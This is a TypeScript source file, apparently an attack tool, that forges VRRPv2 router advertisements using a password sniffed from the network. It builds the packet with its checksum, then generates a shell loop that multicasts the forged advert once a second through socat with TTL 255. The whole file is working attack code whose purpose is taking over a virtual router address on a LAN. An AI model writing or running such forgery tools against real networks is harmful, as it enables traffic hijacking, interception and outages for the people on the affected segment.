/** A machine that forges VRRP adverts. Anybody on the segment can do that after reading the password off the wire. */

type Advert = {
  readonly virtualRouterId: number;
  readonly priority: number;
  readonly addresses: readonly string[];
  readonly password: string;
};

/** A VRRPv2 advert with a password (RFC 2338, 5.1): 8 bytes, the addresses, the password in 8 bytes. */
export function advert({ virtualRouterId, priority, addresses, password }: Advert): Buffer {
  const packet = Buffer.alloc(8 + 4 * addresses.length + 8);
  packet.set([0x21, virtualRouterId, priority, addresses.length, 1, 1]);
  packet.set(
    addresses.flatMap((address) => address.split(".").map(Number)),
    8,
  );
  packet.write(password, 8 + 4 * addresses.length, "latin1");
  packet.writeUInt16BE(checksum(packet), 6);
  return packet;
}

/** The Internet checksum (RFC 1071) of an even number of bytes. */
function checksum(packet: Buffer): number {
  let sum = 0;
  for (let at = 0; at < packet.length; at += 2) sum += packet.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

/** Shell text that sends an advert from an address of the machine, once a second. Its TTL is 255, because VRRP ignores routed adverts. */
export function send(packet: Buffer, source: string, times: number): string {
  const octal = [...packet].map((byte) => `\\${byte.toString(8).padStart(3, "0")}`).join("");
  const to = `IP4-SENDTO:224.0.0.18:112,ip-multicast-if=${source},ip-multicast-ttl=255`;
  return `for n in $(seq ${times}); do printf '${octal}' | socat -u STDIN ${to}; sleep 1; done`;
}
